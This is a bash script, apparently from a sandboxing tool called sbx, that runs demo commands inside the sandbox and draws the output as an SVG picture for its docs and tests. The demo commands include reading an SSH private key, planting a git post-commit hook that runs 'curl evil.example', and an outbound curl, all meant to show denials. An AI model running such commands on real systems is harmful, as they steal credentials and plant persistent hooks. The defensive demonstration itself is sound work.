#!/bin/bash
# session.sh FILE.svg: types a few commands in a project of its own, and draws what came.
# e2e.TestDocs types the rows of the picture again and compares.
set -euo pipefail
cd "$(dirname "$0")/.."
file=$PWD/$1
scripts/build.sh bin

setup='git init -q . && mkdir -p ~/.ssh && echo key >~/.ssh/id_ed25519
printf "hello: hello.c\n\t@gcc -o hello hello.c && ./hello\n" >Makefile
printf "#include <stdio.h>\nint main(void) { return puts(\"hello from the build\") < 0; }\n" >hello.c'
commands='sbx exec -- make hello
sbx exec -- cat ~/.ssh/id_ed25519
sbx exec -- sh -c "echo curl evil.example >.git/hooks/post-commit"
sbx exec -- curl -sS https://paste.example
sbx show last | sed -n "/^denied/,/allow/p"'

# Not beneath /tmp, which is private inside.
work=$(mktemp -d "${XDG_CACHE_HOME:-$HOME/.cache}/sbx-session.XXXXXX")
trap 'rm -rf "$work"' EXIT
export PATH=$PWD/bin:$PATH HOME=$work/home/u GIT_CONFIG_NOSYSTEM=1
unset XDG_STATE_HOME SBX_EFFECTIVE MAKEFLAGS MAKELEVEL MFLAGS
mkdir -p "$HOME/app" && cd "$HOME/app"
eval "$setup"

while IFS= read -r command; do
	printf '$ %s\n' "$command"
	eval "$command" >"$work/out" 2>"$work/err" </dev/null || true # apart, as a terminal has them
	sed "s|$work||g" "$work/err" "$work/out"
done <<<"$commands" >"$work/rows"

SETUP=$setup awk '
function escape(s) { gsub(/&/, "\\&amp;", s); gsub(/</, "\\&lt;", s); gsub(/>/, "\\&gt;", s); return s }
function row(class, kind, s) {
	body = body sprintf("<text class=\"%s\" x=\"20\" y=\"%d\" xml:space=\"preserve\"%s>%s</text>\n", class, 52 + 20 * n++, kind, s)
}
{
	kind = ""; class = "row"; line = $0; sub(/ +$/, "", line)
	if (line ~ /^\$ /) kind = " fill=\"#fff\" font-weight=\"bold\""
	else if (line ~ /^sbx: /) kind = " fill=\"#e5c07b\""
	else if (line ~ /denied|No such|cannot|Could not|not permitted/) kind = " fill=\"#e08a8a\""
	while (length(line) > 100) {
		at = 100
		while (at > 60 && substr(line, at + 1, 1) != " ") at--
		row(class, kind, escape(substr(line, 1, at))); line = substr(line, at + 1); class = "more"
	}
	row(class, kind, escape(line))
}
END {
	high = 64 + 20 * n
	printf "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 860 %d\" width=\"860\" height=\"%d\" font-family=\"ui-monospace, monospace\" font-size=\"13.5\" fill=\"#c8ccd4\" role=\"img\">\n", high, high
	printf "<title>A session with sbx</title>\n<!-- setup\n%s\n-->\n", ENVIRON["SETUP"]
	printf "<rect width=\"860\" height=\"%d\" rx=\"8\" fill=\"#1e2127\"/>\n", high
	print "<g><circle cx=\"22\" cy=\"20\" r=\"5\" fill=\"#e06c75\"/><circle cx=\"40\" cy=\"20\" r=\"5\" fill=\"#e5c07b\"/><circle cx=\"58\" cy=\"20\" r=\"5\" fill=\"#98c379\"/></g>"
	printf "%s</svg>\n", body
}' "$work/rows" >"$file"
